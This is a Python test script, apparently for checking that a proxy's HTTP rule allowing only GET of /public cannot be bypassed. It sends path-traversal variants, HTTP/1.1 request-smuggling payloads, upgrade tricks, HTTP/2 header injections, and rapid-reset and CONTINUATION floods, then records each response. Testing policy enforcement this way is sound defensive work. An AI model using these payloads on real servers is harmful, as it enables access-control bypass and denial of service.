"""Tricks that try to have a server serve what an http rule forbids; runs inside a pod, imported for its names alone.

``attack.py ADDRESS PORT h1|h2``: plays each trick on a connection of its own; says for each what came back (statuses,
and ``closed``, ``reset`` or ``open`` for the connection), and what an honest request right after it got.
The rule allows ``GET`` of /public and what is below it.
"""

from __future__ import annotations

import json
import socket
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

QUIET = 1.3
"""Seconds without a byte after which an answer is taken for complete; Envoy closes what it refuses after 1 s."""
END = b"Host: server\r\n\r\n"
SMUGGLED = b"GET /private HTTP/1.1\r\nHost: server\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"


def get(target: bytes, headers: bytes = b"", version: bytes = b"HTTP/1.1") -> bytes:
    return b"GET " + target + b" " + version + b"\r\n" + headers + END


def length(number: int) -> bytes:
    return b"Content-Length: %d\r\n" % number


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


UPGRADE = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
H2C = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
PATHS = (
    b"/private",
    b"//private",
    b"/public//../private",
    b"/./private",
    b"/public/../private",
    b"/public/./../private",
    b"/public/x/../../private",
    b"/public/..",
    b"/public/%2e%2e/private",
    b"/public/%2E%2e/private",
    b"/public/.%2e/private",
    b"/public/%252e%252e/private",
    b"/public/..%2Fprivate",
    b"/public%2F..%2Fprivate",
    b"/public/..%5Cprivate",
    b"/public/..\\private",
    b"/public%00/../private",
    b"/private%00/public",
    b"/public/%00/../../private",
    b"/private;x=/public",
    b"/public;x=/../private",
    b"/public/..;x=/private",
    b"/private#/public",
    b"/public#/../private",
    b"/private?/public",
    b"/public?/../private",
    b"/%70rivate",
    b"/public/%c0%ae%c0%ae/private",
    b"/public/../\xff\xfe",
    b"/private\x80",
    b"/PRIVATE",
    b"private",
    b"*",
    b"http://server/private",
    b"http://server/public/../private",
    b"http://server/public@/../private",
    b"http://public@server/private",
    b"http://other/private",
    b"http://server",
    b"",
)
H1: dict[str, bytes] = {
    **{f"path {path.decode('latin-1')}": get(path) for path in PATHS},
    "absolute form, other Host": b"GET http://server/private HTTP/1.1\r\nHost: public\r\n\r\n",
    "two targets": b"GET /public /private HTTP/1.1\r\n" + END,
    "target with a tab": b"GET\t/private\tHTTP/1.1\r\n" + END,
    "form feed in the target": get(b"/private\x0c/public"),
    "HTTP/0.9": b"GET /private\r\n\r\n",
    "HTTP/1.0": get(b"/private", version=b"HTTP/1.0"),
    "HTTP/2.0 in text": get(b"/private", version=b"HTTP/2.0"),
    "leading line ends": b"\r\n\r\n" + get(b"/private"),
    "bare LF": b"GET /public HTTP/1.1\nHost: server\n\n" + SMUGGLED,
    "bare CR": b"GET /public HTTP/1.1\r\nHost: server\r\nA: b\rGET /private HTTP/1.1\r\n\r\n",
    "other method": b"POST /public HTTP/1.1\r\nContent-Length: 0\r\n" + END,
    "lower-case method": b"get /public HTTP/1.1\r\n" + END,
    "method override": get(b"/public", b"X-HTTP-Method-Override: POST\r\nX-Original-URL: /private\r\n"),
    "CONNECT": b"CONNECT server:8080 HTTP/1.1\r\n" + END + SMUGGLED,
    "pipelined": get(b"/public") + SMUGGLED + get(b"/public"),
    "pipelined, forbidden first": SMUGGLED + get(b"/public"),
    "CL.TE": get(b"/public", length(5 + len(SMUGGLED)) + CHUNKED) + b"0\r\n\r\n" + SMUGGLED,
    "TE.CL": get(b"/public", CHUNKED + length(4)) + chunk(SMUGGLED) + b"0\r\n\r\n",
    "TE.TE": get(b"/public", CHUNKED + b"Transfer-Encoding: x\r\n" + length(4)) + chunk(SMUGGLED) + b"0\r\n\r\n",
    "TE xchunked": get(b"/public", b"Transfer-Encoding: xchunked\r\n") + b"0\r\n\r\n" + SMUGGLED,
    "TE with a space": get(b"/public", b"Transfer-Encoding : chunked\r\n" + length(5)) + b"0\r\n\r\n" + SMUGGLED,
    "TE with VT": get(b"/public", b"Transfer-Encoding:\x0bchunked\r\n" + length(5)) + b"0\r\n\r\n" + SMUGGLED,
    "TE with HTTP/1.0": get(b"/public", CHUNKED, b"HTTP/1.0") + b"0\r\n\r\n" + SMUGGLED,
    "chunked body": get(b"/public", CHUNKED) + chunk(SMUGGLED) + b"0\r\n\r\n",
    "chunk extension": get(b"/public", CHUNKED) + b"1;x=\n\r\na\r\n0\r\n\r\n" + SMUGGLED,
    "chunk size overflows": get(b"/public", CHUNKED) + b"10000000000000001\r\na\r\n0\r\n\r\n" + SMUGGLED,
    "chunk trailers": get(b"/public", CHUNKED) + b"0\r\nHost: public\r\nContent-Length: 9\r\n\r\n" + SMUGGLED,
    "body by length": get(b"/public", length(len(SMUGGLED))) + SMUGGLED,
    "two lengths": get(b"/public", length(0) + length(len(SMUGGLED))) + SMUGGLED,
    "two equal lengths": get(b"/public", length(0) + length(0)) + SMUGGLED,
    "length list": get(b"/public", b"Content-Length: 0, 39\r\n") + SMUGGLED,
    "length with a sign": get(b"/public", b"Content-Length: +0\r\n") + SMUGGLED,
    "obs-fold": b"GET /public HTTP/1.1\r\nHost: server\r\nA: b\r\n c\r\n\r\n",
    "obs-fold of the length": get(b"/public", b"Content-Length:\r\n 39\r\n") + SMUGGLED,
    "obs-fold first": b"GET /public HTTP/1.1\r\n Host: server\r\nHost: server\r\n\r\n",
    "two Hosts": b"GET /private HTTP/1.1\r\nHost: public\r\n" + END,
    "no Host": b"GET /private HTTP/1.1\r\n\r\n",
    "many equal headers": get(b"/public", b"A: b\r\n" * 60) + SMUGGLED,
    "too many headers": get(b"/public", b"".join(b"A%d: b\r\n" % number for number in range(300))),
    "100 KB header": get(b"/public", b"A: " + b"b" * 100_000 + b"\r\n") + SMUGGLED,
    "100 KB path": get(b"/public/" + b"b" * 100_000) + SMUGGLED,
    "NUL in a header": get(b"/public", b"A: b\0c\r\n"),
    "bytes 0x80-0xff in a header": get(b"/public", b"A: " + bytes(range(0x80, 0x100)) + b"\r\n") + SMUGGLED,
    "bytes 0x80-0xff in a name": get(b"/public", bytes(range(0x80, 0x100)) + b": a\r\n"),
    "hop-by-hop Host": get(b"/public", b"Connection: close, Host, Content-Length\r\n" + length(0)),
    "Expect, forbidden": get(b"/private", b"Expect: 100-continue\r\n" + length(3)),
    "Expect, then not the body": get(b"/public", b"Expect: 100-continue\r\n" + length(39)) + SMUGGLED,
    "h2c upgrade": get(b"/public", H2C) + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "h2c upgrade, then smuggle": get(b"/public", H2C) + SMUGGLED,
    "WebSocket, forbidden": get(b"/private", UPGRADE + b"Sec-WebSocket-Version: 13\r\n"),
    "WebSocket, then smuggle": get(b"/public", UPGRADE + b"Sec-WebSocket-Version: 13\r\n") + SMUGGLED,
    "WebSocket refused, then smuggle": get(b"/public/refuse", UPGRADE + b"Sec-WebSocket-Version: 777\r\n") + SMUGGLED,
    "other upgrade, then smuggle": get(b"/public", b"Connection: Upgrade\r\nUpgrade: x\r\n") + SMUGGLED,
    "TLS": b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(160),
    "rubbish": bytes(range(1, 256)),
}  # fmt: skip
SPLIT = {
    "split at every byte": get(b"/public"),
    "split at every byte, forbidden": SMUGGLED,
    "split at every byte, body": get(b"/public", length(len(SMUGGLED))) + SMUGGLED,
}


# ---- HTTP/2 -------------------------------------------------------------------------------------------------

HEADERS, RST, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Fields = tuple[tuple[bytes, bytes], ...]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    """A string literal (RFC 7541, section 5.2), not compressed."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, b"\x7f"
    while rest > 127:
        out, rest = out + bytes([rest % 128 + 128]), rest >> 7
    return out + bytes([rest]) + value


def block(*fields: tuple[bytes, bytes]) -> bytes:
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def pseudo(path: bytes = b"/public", method: bytes = b"GET", authority: bytes = b"server") -> Fields:
    return ((b":method", method), (b":scheme", b"http"), (b":authority", authority), (b":path", path))


def ask(*fields: tuple[bytes, bytes], stream: int = 1, body: bytes | None = None) -> bytes:
    flags = END_HEADERS | (END_STREAM if body is None else 0)
    head = frame(HEADERS, flags, stream, block(*fields))
    return head + (b"" if body is None else frame(0, END_STREAM, stream, body))


P, F = pseudo(), pseudo(b"/private")
H2: dict[str, bytes] = {
    "h2 allowed": ask(*P),
    **{f"h2 path {path.decode('latin-1')}": ask(*pseudo(path)) for path in PATHS},
    "h2 other method": ask(*pseudo(method=b"POST")),
    "h2 upper-case name": ask(*P, (b"X-Upper", b"1")),
    "h2 upper-case pseudo header": ask(*P[:3], (b":Path", b"/private")),
    "h2 two paths": ask(*P, (b":path", b"/private")),
    "h2 two paths, forbidden first": ask(*F, (b":path", b"/public")),
    "h2 two methods": ask(*P, (b":method", b"POST")),
    "h2 two authorities": ask(*P, (b":authority", b"other")),
    "h2 pseudo header last": ask(*P[:3], (b"a", b"b"), (b":path", b"/private")),
    "h2 unknown pseudo header": ask(*P, (b":x", b"/private")),
    "h2 no path": ask(*P[:3]),
    "h2 no method": ask(*P[1:]),
    "h2 other host": ask(*F, (b"host", b"public")),
    "h2 line end in the path": ask(*pseudo(b"/public HTTP/1.1\r\nHost: x\r\n\r\nGET /private")),
    "h2 space in the path": ask(*pseudo(b"/public /private")),
    "h2 line end in a value": ask(*P, (b"a", b"b\r\n\r\nGET /private HTTP/1.1\r\nHost: x\r\n\r\n")),
    "h2 line end in a name": ask(*P, (b"a: b\r\nc", b"d")),
    "h2 line end in the method": ask(*pseudo(method=b"GET /private HTTP/1.1\r\nx: y\r\n\r\nGET")),
    "h2 transfer-encoding": ask(*P, (b"transfer-encoding", b"chunked"), body=b"0\r\n\r\n" + SMUGGLED),
    "h2 connection": ask(*P, (b"connection", b"upgrade"), (b"upgrade", b"websocket")),
    "h2 length too short": ask(*P, (b"content-length", b"0"), body=SMUGGLED),
    "h2 length too long": ask(*P, (b"content-length", b"99"), body=SMUGGLED),
    "h2 body": ask(*P, body=SMUGGLED),
    "h2 CONNECT": ask((b":method", b"CONNECT"), (b":authority", b"server:8080"), body=SMUGGLED),
    "h2 extended CONNECT": ask(*pseudo(b"/private", b"CONNECT"), (b":protocol", b"websocket"), body=b"a"),
    "h2 100 KB header": b"".join([
        frame(HEADERS, END_STREAM, 1, block(*P)),
        *(frame(CONTINUATION, 0, 1, block((b"a", b"b" * 10_000))) for _ in range(9)),
        frame(CONTINUATION, END_HEADERS, 1, block((b"a", b"b" * 10_000))),
    ]),
    "h2 CONTINUATION flood": frame(HEADERS, END_STREAM, 1, block(*F)) + frame(CONTINUATION, 0, 1, b"") * 20_000,
    "h2 headers of another stream between": frame(HEADERS, END_STREAM, 1, block(*P)) + ask(*F, stream=3),
    "h2 rapid reset": b"".join(
        ask(*pseudo(b"/private"), stream=stream) + frame(RST, 0, stream, b"\0\0\0\x08") for stream in range(1, 4001, 2)
    ),
    "h2 empty frames": frame(HEADERS, END_HEADERS, 1, block(*P)) + frame(0, 0, 1) * 20_000,
    "h2 settings flood": frame(SETTINGS, 0, 0) * 20_000,
    "h2 ping flood": frame(6, 0, 0, bytes(8)) * 20_000,
}  # fmt: skip
STATUSES = {b"\x88": "200", b"\x89": "204", b"\x8c": "400", b"\x8d": "404", b"\x8e": "500"}
LITERAL = {b"\x03403": "403", b"\x03404": "404", b"\x03502": "502"}


def answers_h2(said: bytes) -> list[str]:
    found: list[str] = []
    while len(said) >= 9:
        size, kind = int.from_bytes(said[:3], "big"), said[3]
        payload, said = said[9 : 9 + size], said[9 + size :]
        if kind == HEADERS:
            found.append(next((status for code, status in LITERAL.items() if code in payload), "")
                         or STATUSES.get(payload[:1], payload[:6].hex()))  # fmt: skip
        elif kind == RST:
            found.append("rst")
        elif kind == GOAWAY:
            found.append("goaway")
    return found


# ---- playing ------------------------------------------------------------------------------------------------


def dial(target: tuple[str, int]) -> socket.socket:
    made = socket.create_connection(target, timeout=5)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made


def listen(connection: socket.socket, enough: Callable[[bytes], bool]) -> tuple[bytes, str]:
    said = b""
    connection.settimeout(QUIET)
    try:
        while not enough(said):
            if not (more := connection.recv(65536)):
                return said, "closed"
            said += more
    except TimeoutError:
        return said, "open"
    except ConnectionError:
        return said, "reset"
    return said, "open"


def play(target: tuple[str, int], data: bytes, http2: bool, split: bool) -> str:
    with dial(target) as connection:
        try:
            if http2:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + data)
            elif split:
                for byte in data:
                    connection.send(bytes([byte]))
            else:
                connection.sendall(data)
        except OSError:
            pass  # closed before it was all sent; what was said is still read
        said, end = listen(connection, lambda _: False)
    if http2:
        found = answers_h2(said)
        found = found if len(found) < 5 else [*found[:2], "..."]
    else:
        found = [
            part[:3].decode("latin-1") for part in said.replace(b"HTTP/1.0 ", b"HTTP/1.1 ").split(b"HTTP/1.1 ")[1:]
        ]
    return " ".join([*found, end])


def honest(target: tuple[str, int], http2: bool) -> str:
    """A request as another client would make it."""
    with dial(target) as connection:
        connection.settimeout(5)
        if http2:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + H2["h2 allowed"])
            said = b""
            while not (found := answers_h2(said)):
                said += connection.recv(65536) or b"\0\0\0\x07\0\0\0\0\0"
            return found[0]
        connection.sendall(get(b"/public", b"Connection: close\r\n"))
        return connection.recv(65536)[9:12].decode()


def main(address: str, port: str, version: str) -> None:
    target, http2 = (address, int(port)), version == "h2"
    tricks = H2 if http2 else H1 | SPLIT

    def run(name: str) -> tuple[str, str]:
        return play(target, tricks[name], http2, name in SPLIT), honest(target, http2)

    with ThreadPoolExecutor(40) as pool:
        print(json.dumps(dict(zip(tricks, pool.map(run, tricks), strict=True))))


if __name__ == "__main__":
    main(*sys.argv[1:])
